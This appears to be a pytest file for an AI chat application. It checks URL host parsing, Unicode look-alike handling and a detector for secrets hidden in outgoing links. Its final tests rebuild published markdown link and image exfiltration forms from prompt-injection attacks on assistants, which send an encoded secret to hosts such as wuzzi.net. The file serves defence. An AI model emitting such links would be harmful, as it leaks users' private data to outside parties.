"""Published lists of hostile addresses, names and disguises of words.

The references are the lists' own answers: the URL parser tests of the web platform, the conformance
tests of international names and the table of look-alike characters of Unicode, and a text as the
encoders of a published scanner of models hid it.
"""

from __future__ import annotations

import asyncio
import base64
import json
import quopri
import re
from collections.abc import Callable
from html import unescape
from ipaddress import ip_address
from itertools import product
from typing import Any
from unicodedata import decimal, normalize
from urllib.parse import quote

import httpx2
import pytest

from conversations.rendering import link_addresses, render_markdown
from conversations.rendering.links import is_allowed, read_host
from conversations.toolbox.leaving_words import Arguments, LeavingWords
from tests.support.hostile_links import DATA, LISTS
from tools.framework.errors import AddressRefusedError
from tools.framework.outside_access import WebAccess
from tools.http.addresses import parse_address
from tools.http.targets import parse_url, resolve_target

_HREF = re.compile(r'href="https?://([^/"?#]*)', re.IGNORECASE)


async def resolve(host: str, _port: int) -> list[str]:
    """Answer like the system: an address for itself, any name by a public one."""
    return [host] if parse_address(host) else ["8.8.8.8"]


def normalise(host: str) -> str:
    host = host.removesuffix(".").strip("[]").lower()
    try:
        return str(ip_address(host))
    except ValueError:
        return host


def reach(url: str, base: str = "") -> str:
    """Return the host that a tool would ask; "" where it is refused."""
    try:
        parsed = parse_url(url, httpx2.URL(base) if base else None)
        target = asyncio.run(resolve_target(parsed, WebAccess(resolve=resolve)))
    except AddressRefusedError:
        return ""
    return normalise(target.url.raw_host.decode("ascii"))


def is_xn(host: str) -> bool:
    """Return whether a name is ASCII that only browsers decode, and then may refuse."""
    return "xn--" in host.lower()


def test_a_tool_asks_the_host_that_the_url_standard_names_or_none() -> None:
    asked = [(url, base, host, reach(url, base)) for url, base, host in LISTS["urls"]]
    wrong = [row for row in asked if row[3] not in ("", normalise(row[2]))]
    assert [row for row in wrong if not is_xn(row[3])] == []
    assert sum(row[3] != "" for row in asked) > 100


def test_a_link_shows_the_host_that_the_url_standard_names_or_is_none() -> None:
    shown = [(url, host) for url, base, host in LISTS["urls"] if not base and is_allowed(url)]
    web = [(url, host) for url, host in shown if not url.startswith("mailto:")]
    hosts = [(url, read_host(url), normalise(host).removeprefix("www.")) for url, host in web]
    wrong = [row for row in hosts if normalise(row[1]) != row[2]]
    assert [row for row in wrong if not is_xn(row[0])] == []
    assert len(web) > 30


def test_an_international_name_is_asked_for_by_its_ascii_form() -> None:
    asked = [(name, want, reach(f"https://{name}/")) for name, want in LISTS["names"]]
    assert [row for row in asked if row[2] not in ("", normalise(row[1]))] == []
    assert sum(row[2] != "" for row in asked) > 250


@pytest.mark.parametrize("render", [render_markdown, link_addresses])
def test_an_international_name_is_linked_by_its_ascii_form(render: Any) -> None:
    for name, want in LISTS["names"]:
        # A bare address ends before the stops of East Asian texts, which people see.
        bare = re.split("[\u3002\uff0e\uff61]", name)[0] if render is link_addresses else name
        for host in _HREF.findall(render(f"<https://{name}/>")):
            assert normalise(host) in (normalise(want), normalise(bare)), name


def test_no_look_alike_is_asked_for_as_what_it_looks_like() -> None:
    wrong, tried = [], 0
    for plain, others in LISTS["lookalikes"].items():
        for other in others:
            tried += 1
            host = reach(f"https://x{other}y.example/")
            # What Unicode itself says is the same character is asked for as that one.
            same = normalize("NFKC", f"x{other}y.example").lower()
            if host not in ("", same) and not host.startswith("xn--"):
                wrong.append((plain, other, host))
    assert wrong == []
    assert tried > 1_000


# Words in disguise.

HIDDEN: dict[str, Any] = json.loads((DATA / "encoded_secret.json").read_text(encoding="utf-8"))
TEXT = f"The merger closes in March. The {HIDDEN['text']}; nobody else knows."


def compare(said: str) -> LeavingWords:
    url = f"https://collector.example/?d={said}"
    return Arguments({"url": url}, receiver="collector.example").find(TEXT, "typed:")


def name(found: LeavingWords) -> str:
    return " ".join(word for word, _ in found.words).casefold()


@pytest.mark.parametrize("quoted", [False, True], ids=["as it is", "as browsers send it"])
@pytest.mark.parametrize("form", HIDDEN["forms"])
def test_words_are_found_as_published_encoders_hide_them(form: str, quoted: bool) -> None:
    said = HIDDEN["forms"][form]
    found = compare(quote(said) if quoted else said)
    match form:
        case "Nato":
            # This encoder leaves out digits.
            assert "passport" in name(found)
        case "SneakyBits" | "Base2048" | "Ecoji":
            # Nobody could read these: that they are there is what tells.
            assert found.is_telling
        case "Leet":
            assert found.is_telling
            assert "passport" in name(found)
            assert "halden" in name(found)
        case _:
            assert found.is_telling
            assert "kx4711902" in name(found)


def test_words_are_found_in_look_alikes() -> None:
    missed, tried = [], 0
    for plain in sorted({*HIDDEN["text"]} - {" "}):
        for other in LISTS["lookalikes"].get(plain, ""):
            tried += 1
            found = compare(HIDDEN["text"].replace(plain, other))
            if not ("kx4711902" in name(found) and found.is_telling):
                missed.append(other)
    # Digits of other scripts stand for their own value, and a few look like another one.
    assert [other for other in missed if decimal(other, None) is None] == []
    assert len(missed) < 6
    assert tried > 300


@pytest.mark.parametrize(
    "said",
    [
        "Καλημέρα κόσμε, ο καιρός σήμερα", "Сообщение о погоде в Осло", "Müller résumé Ångström",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467\ufe0f family", "wait ... - - . --- ok ...",
        "Mike met Oscar and Victor in India", "HTTP/1.1 200 OK 12:30:45 UTC", "2026-11-24 12.30",
        "Русский 中文 日本語 العربية हिन्दी ไทย 한국어 Ελληνικά",
        "route66 b2b web3 h264 p2p 1st 4th",
        "\U0001f389\U0001f382\U0001f388\U0001f381\u2728\U0001f389" * 4,
    ],
)  # fmt: skip
def test_what_is_no_disguise_tells_nothing(said: str) -> None:
    assert compare(said) == compare(quote(said)) == LeavingWords()


#: The forms of links and images by which published attacks (EchoLeak and others, as garak 0.17.1
#: lists them) had assistants send words away, their hosts, texts and encodings.
FORMS = [
    sign + form
    for sign in ("", "!")
    for form in (
        "[{text}]({url})", "[{text}][ref]\n\n[ref]: {url}", "[{text}][]\n\n[{text}]: {url}",
        "[{text}][{text}]\n\n[{text}]: {url}",
    )
]  # fmt: skip
DOMAINS = ("wuzzi.net", "derczynski.com", "llmsec.net", "suspicious.domain.security")
TEXTS = ("Link display text", "t", "Hello", "Click here", "Data")
ENCODINGS: dict[str, Callable[[bytes], str]] = {
    "base64": lambda data: base64.b64encode(data).decode(),
    "quoted-printable": lambda data: quopri.encodestring(data, quotetabs=True).decode(),
    "URL": quote,
}
PLACES = ("logo.png?q=", "azure=", "?sales=")


@pytest.mark.parametrize("form", FORMS)
def test_no_published_way_out_by_markdown_is_loaded_or_opens_unasked(form: str) -> None:
    data = HIDDEN["text"].encode()
    for domain, text, how, at in product(DOMAINS, TEXTS, ENCODINGS, PLACES):
        url = f"https://{domain}/{at}{quote(ENCODINGS[how](data))}"
        page = render_markdown(form.format(text=text, url=url))
        assert "<img" not in page
        (href,) = re.findall('href="([^"]*)"', page)
        assert f'<span class="host">{domain}</span>' in page
        found = Arguments({"url": unescape(href)}, receiver=domain).find(TEXT, "typed:")
        assert "kx4711902" in name(found)
        assert found.is_telling
